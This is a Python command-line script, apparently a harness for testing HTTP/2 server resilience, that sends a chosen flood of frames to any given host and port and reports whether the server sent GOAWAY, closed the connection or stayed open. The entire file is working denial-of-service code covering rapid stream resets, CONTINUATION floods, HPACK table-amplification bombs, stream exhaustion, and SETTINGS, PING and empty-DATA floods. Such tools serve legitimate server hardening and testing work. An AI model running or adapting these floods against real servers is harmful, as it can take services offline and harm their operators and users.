"""Floods a server with one kind of HTTP/2 frames: flood.py KIND HOST PORT COUNT.

Prints one word: how the connection ended ("goaway CODE", "closed"), or "open" when all was sent and it still stands.
"""

import contextlib
import select
import socket
import struct
import sys

import hpack

kind, host, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
BODY = b'{"message":{"type":"status-update","call":{"id":"flood"}}}'
PLAIN = [(":method", "POST"), (":scheme", "http"), (":authority", "test"), (":path", "/flood")]
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4

wire = socket.create_connection((host, port))
wire.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
unread = b""


class Ended(Exception):
    pass


def look(seconds=0.0):
    """Read what has come; raises when the connection is ended."""
    global unread
    while select.select([wire], [], [], seconds)[0]:
        data = wire.recv(65536)
        if not data:
            raise Ended("closed")
        unread += data
        while len(unread) >= 9:
            end = 9 + int.from_bytes(unread[:3], "big")
            if len(unread) < end:
                break
            if unread[3] == GOAWAY:
                raise Ended(f"goaway {int.from_bytes(unread[13:17], 'big')}")
            unread = unread[end:]


def frame(type, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([type, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header that enters the table of the other side."""
    return b"\x40" + hpack.hpack.encode_integer(len(name), 7) + name + hpack.hpack.encode_integer(len(value), 7) + value


def block():
    return hpack.Encoder().encode(PLAIN)


def resets(body):
    for number in range(count):
        stream = 2 * number + 1
        frames = frame(HEADERS, END_HEADERS, stream, block())
        if body:
            frames += frame(DATA, END_STREAM, stream, BODY)
        yield frames + frame(RESET, 0, stream, struct.pack(">I", 8))


def continuations(payload):
    yield frame(HEADERS, 0, 1, block())
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1, payload)


def table_bombs():
    """An entry of 4,000 bytes, and then one byte for each use of it."""
    for number in range(count):
        uses = b"\xbe" * 12_000
        yield frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block() + literal(b"x", b"y" * 4_000) + uses)


def streams():
    """More requests at a time than may be, none of which ends."""
    for number in range(count):
        yield frame(HEADERS, END_HEADERS, 2 * number + 1, block())


def flood():
    return {
        "resets": lambda: resets(False),
        "resets-with-bodies": lambda: resets(True),
        "continuations": lambda: continuations(literal(b"x-a", b"y" * 4_000)),
        "empty-continuations": lambda: continuations(b""),
        "table-bombs": table_bombs,
        "streams": streams,
        "settings": lambda: (frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) for _ in range(count)),
        "pings": lambda: (frame(PING, 0, 0, b"12345678") for _ in range(count)),
        "empty-data": lambda: (
            frame(HEADERS, END_HEADERS, 1, block()) if number == 0 else frame(DATA, 0, 1)
            for number in range(count)
        ),
    }[kind]()


def send():
    wire.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    look(0.1)
    wire.sendall(frame(SETTINGS, ACK, 0))
    # Not read meanwhile: who answers each frame has to keep the answers, or to stop reading.
    packet = b""
    wire.settimeout(5)
    for frames in flood():
        packet += frames
        if len(packet) > 16_000:
            wire.sendall(packet)
            packet = b""
    wire.sendall(packet)
    look(3)


def send_raw():
    try:
        send()
    except (BrokenPipeError, ConnectionResetError, TimeoutError) as error:
        with contextlib.suppress(ConnectionError):
            look(1)
        raise Ended("stalled" if isinstance(error, TimeoutError) else "closed") from error


try:
    send_raw()
    print("open")
except Ended as end:
    print(end)
